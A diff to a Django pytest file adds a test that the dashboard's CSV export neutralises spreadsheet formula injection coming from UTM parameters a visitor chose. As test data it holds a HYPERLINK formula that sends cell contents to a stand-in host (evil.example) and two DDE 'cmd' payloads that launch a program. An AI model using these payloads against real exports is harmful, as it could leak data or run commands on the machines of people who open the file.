@@ -5,6 +5,7 @@ import io
 
 import pytest
 from django.contrib.auth import get_user_model
+from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
 
@@ -75,3 +76,14 @@ def test_the_admin_home_links_the_dashboard(staff_client):
 def test_the_dashboard_needs_a_fixed_number_of_queries(staff_client, django_assert_max_num_queries):
     with django_assert_max_num_queries(25):
         staff_client.get(URL)
+
+
+def test_utm_values_a_visitor_chose_reach_the_csv_as_text_not_formulas(staff_client):
+    formulas = {"utm_source": '=HYPERLINK("http://evil.example/?x="&A1)', "utm_medium": "@SUM(1+1)*cmd|' /C calc'!A0",
+                "utm_campaign": "+cmd|' /C calc'!A0"}
+    Client().get("/", formulas)
+    rows = list(csv.reader(io.StringIO(staff_client.get(URL, {"format": "csv"}).content.decode())))
+    row = next(row for row in rows if row and "evil.example" in row[0])
+    assert row[:3] == ["'" + formulas["utm_source"], "'" + formulas["utm_medium"], "'" + formulas["utm_campaign"]]
+    assert not any(cell.startswith(("=", "@", "+")) and not cell.lstrip("+-").replace(".", "").isdigit()
+                   for row in rows for cell in row)
